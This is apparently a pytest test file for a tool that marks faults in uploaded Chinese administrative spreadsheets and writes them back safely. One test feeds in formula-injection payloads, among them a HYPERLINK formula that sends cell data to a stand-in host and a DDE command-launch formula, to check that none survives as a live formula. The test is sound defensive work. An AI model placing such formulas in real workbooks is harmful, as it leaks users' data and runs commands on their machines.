"""The same sheet back: every fault in its place, nothing that runs, nothing that is lost, and read again as it was."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest

from fazhi.exchange.sheets import Checked, check, known_headings, mark, read, suggest
from tests.exchange.sheets.making import COLUMNS, GOOD, HEADINGS, Result, load, row, xlsx

ATTACK = '=HYPERLINK("http://example.com/?x="&A1,"看")'


def marked(found: Result, **given: Any) -> bytes:
    out = io.BytesIO()
    mark(found.sheet, found.rows, out, layout=found.layout, remarks=found.remarks, **given)
    return out.getvalue()


def opened(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_each_fault_is_marked_in_its_cell_with_rule_and_cure() -> None:
    found = load(xlsx(["标题"], HEADINGS, GOOD, row(code="A002", on="3/5/2021", kind="许可证"), ["合计", 2]))
    book = opened(marked(found))
    sheet, summary = book.worksheets
    assert sheet["A2"].value == "问题 Faults" and sheet["B2"].value == "事项编码"
    cell = sheet["F4"]
    assert cell.value == "3/5/2021" and cell.comment is not None
    assert "看不出日和月的先后" in cell.comment.text and "2021-03-05" in cell.comment.text
    assert cell.fill.fgColor.rgb != sheet["F3"].fill.fgColor.rgb
    assert "立案日期" in sheet["A4"].value and "权力类型" in sheet["A4"].value, "said in words, too"
    assert sheet["A3"].value is None and sheet["D3"].comment is None
    assert sheet["B5"].value == "合计"
    rows = [[cell.value for cell in each] for each in summary.iter_rows()]
    assert rows[0] == ["行", "列", "位置", "内容", "问题", "改法"]
    assert [each[:2] for each in rows[1:3]] == [[4, "权力类型"], [4, "立案日期"]]
    assert rows[2][3] == "3/5/2021" and "#'清单'!F4" in rows[2][2]
    assert "合计" in rows[3][4]


def test_a_marked_sheet_is_read_again_without_what_was_added() -> None:
    found = load(xlsx(HEADINGS, GOOD, row(code="A002", on="3/5/2021")))
    once = marked(found)
    again = load(once)
    assert [each["code"] for each in again.values] == ["A001", "A002"]
    assert again.faults == [("F3", "date.order")]
    twice = opened(marked(again)).worksheets[0]
    assert [cell.value for cell in twice[1]] == ["问题 Faults", *HEADINGS]


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0"])
def test_nothing_in_a_marked_sheet_runs(text: str) -> None:
    found = load(xlsx([*HEADINGS, "备注栏"], [*row(name=text, kind=text), text]))
    # openpyxl wrote a formula where the text is one: such a cell comes back as a text that says so.
    sheet = opened(marked(found)).worksheets[0]
    for each in sheet.iter_rows():
        for cell in each:
            assert cell.data_type != "f", cell.coordinate
    held = [cell for cell in sheet[2] if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t"]
    assert held and all(cell.quotePrefix for cell in held)


def test_changed_cells_look_otherwise_and_say_the_old_value() -> None:
    def old(checked: Checked) -> dict[str, str]:
        return {"name": "旧名称", "count": ""} if checked.values.get("code") == "A002" else {}

    found = load(xlsx(HEADINGS, GOOD, row(code="A002"), row(code="A003", on="?")))
    sheet = opened(marked(found, old=old)).worksheets[0]
    assert "原值：旧名称" in sheet["C3"].comment.text and "（空）" in sheet["H3"].comment.text
    assert "2 项" in sheet["A3"].value
    looks = {sheet[name].fill.fgColor.rgb for name in ("C3", "F4", "C2")}
    assert len(looks) == 3, "changed, faulty and plain cells differ"


def test_personal_values_are_the_senders_own_or_masked() -> None:
    found = load(xlsx(HEADINGS, row(person="130130199001011231")))
    own, masked = (opened(marked(found, personal=shown)).worksheets[1]["D2"].value for shown in (True, False))
    assert own == "130130199001011231" and masked == "130130********1231"
    assert found.rows[0].faults[0].shown == masked


def test_the_same_sheet_gives_the_same_bytes() -> None:
    content = xlsx(HEADINGS, row(on="?"))
    assert marked(load(content)) == marked(load(content))


def test_english_is_written_for_who_reads_english() -> None:
    book = opened(marked(load(xlsx(HEADINGS, row(on="3/5/2021"))), language="en"))
    assert book.sheetnames[1] == "Faults"
    assert "which is the day" in book.worksheets[0]["F2"].comment.text


def test_a_text_file_comes_back_as_a_workbook() -> None:
    found = load(",".join(HEADINGS).encode() + b"\nA001,x,,,?,,,\n", "清单.csv")
    sheet = opened(marked(found)).worksheets[0]
    assert sheet.title == "清单" and sheet["F2"].value == "?" and sheet["F2"].comment is not None


def test_a_fault_of_the_caller_is_marked_like_any() -> None:
    from fazhi.kernel.wording import Label

    found = load(xlsx(HEADINGS, GOOD))
    found.rows[0].fault(
        "code", "register.absent", Label("清单中没有。", "Not on the register."), Label("请核对。", "Check.")
    )
    sheet = opened(marked(found)).worksheets[0]
    assert "清单中没有" in sheet["B2"].comment.text and found.rows[0].faults[0].cell == "A2"


def test_rows_go_by_one_at_a_time() -> None:
    """No more of the rows is held than one: what comes out was not gathered before."""
    content = xlsx(HEADINGS, *(row(code=f"A{at}") for at in range(50)))
    sheet = read(content, "a.xlsx", wanted=known_headings(COLUMNS))
    rows = check(sheet, COLUMNS, suggest(sheet.headings, COLUMNS).mapping)
    assert next(rows).number == 2 and next(rows).number == 3


@pytest.mark.parametrize(("name", "language"), [("问题汇总.csv", "zh-hans"), ("faults.csv", "en")])
def test_a_sheet_that_is_called_as_the_summary_comes_back_all_the_same(name: str, language: str) -> None:
    found = load("事项编码,事项名称,立案日期\nA001,登记,3/5/2021\n".encode(), name)
    sheet, summary = opened(marked(found, language=language)).worksheets
    assert (summary["A2"].value, sheet["D2"].value) == (2, "3/5/2021")
